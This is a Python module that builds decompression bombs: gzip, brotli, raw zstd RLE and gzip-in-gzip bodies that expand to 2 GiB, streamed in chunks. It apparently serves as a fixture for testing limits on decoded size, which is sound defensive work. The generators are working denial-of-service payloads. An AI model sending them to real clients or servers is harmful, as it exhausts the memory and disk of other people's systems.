"""Bodies that are small on the wire and 2 GiB when their coding is undone, made in milliseconds and sent in pieces."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Iterator

import brotli

SIZE = 2 * 1024**3
BLOCK = 16 * 1024**2
REPEATS = SIZE // BLOCK


def gzip_bomb() -> Iterator[bytes]:
    """One gzip member; after a full flush the same block can be sent again and again."""
    packer = zlib.compressobj(9, wbits=16 + zlib.MAX_WBITS)
    yield packer.compress(bytes(BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(REPEATS - 1):
        yield block


def brotli_bomb() -> Iterator[bytes]:
    """One brotli stream of meta-blocks that each refer to the zeros before them."""
    packer = brotli.Compressor(quality=1)
    yield packer.process(bytes(BLOCK)) + packer.flush()
    block = packer.process(bytes(BLOCK)) + packer.flush()
    for _ in range(REPEATS - 1):
        yield block


def zstd_bomb() -> Iterator[bytes]:
    """A window of 8 MiB, then blocks that say in 4 bytes «128 KiB of zero» (RFC 8878, section 3.1.1.2)."""
    window = (23 - 10) << 3
    block = ((128 * 1024) << 3 | 1 << 1).to_bytes(3, "little") + b"\0"
    yield b"\x28\xb5\x2f\xfd\x00" + bytes([window])
    for _ in range(REPEATS):
        yield block * (BLOCK // (128 * 1024))


def double_bomb() -> Iterator[bytes]:
    """gzip in gzip: 2 GiB in a few kilobytes."""
    yield gzip.compress(b"".join(gzip_bomb()), mtime=0)
